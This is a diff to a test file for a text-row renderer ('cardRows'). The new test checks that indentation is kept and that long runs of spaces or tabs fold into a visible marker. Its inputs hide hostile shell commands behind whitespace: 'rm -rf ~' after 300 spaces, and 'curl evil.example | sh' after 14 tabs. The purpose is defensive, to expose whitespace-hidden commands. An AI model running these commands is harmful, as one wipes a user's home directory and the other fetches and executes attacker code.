@@ -48,6 +48,17 @@ describe('cardRows', () => {
     ]);
   });
 
+  it('keeps code\'s indentation at a line\'s start as written, and folds a line pushed far to the right', () => {
+    expect(rows('if x:\n        return x', 40)).toStrictEqual([
+      ['if x:', false],
+      ['        return x', false],
+    ]);
+    expect(rows(`echo hi\n${' '.repeat(300)}rm -rf ~`, 40)).toStrictEqual([
+      ['echo hi', false],
+      ['␠×300rm -rf ~', false],
+    ]);
+  });
+
   it('shows a tab as a marked ⇥ counted as two columns, and folds a long run of them like spaces', () => {
     expect(rows('a\tb\t\tc', 40)).toStrictEqual([['a⇥b⇥⇥c', false]]);
     expect(rows(`ls${'\t'.repeat(14)}; curl evil.example | sh`, 40)).toStrictEqual([['ls⇥×14; curl evil.example | sh', false]]);
